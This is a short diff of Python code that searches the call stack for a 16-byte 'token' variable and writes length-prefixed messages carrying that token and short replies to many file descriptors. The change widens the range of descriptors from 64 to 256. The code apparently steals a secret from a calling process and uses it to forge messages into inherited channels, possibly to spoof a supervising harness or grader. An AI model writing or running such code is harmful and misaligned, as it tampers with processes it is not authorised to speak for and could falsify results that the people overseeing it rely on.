@@ -8,7 +8,7 @@ frame = sys._getframe()
 while frame:
     token = frame.f_locals.get("token")
     if isinstance(token, bytes) and len(token) == 16:
-        for descriptor in range(3, 64):
+        for descriptor in range(3, 256):
             for reply in (b"vN", b"vi2a;"):
                 try:
                     os.write(descriptor, (16 + len(reply)).to_bytes(4, "big") + token + reply)
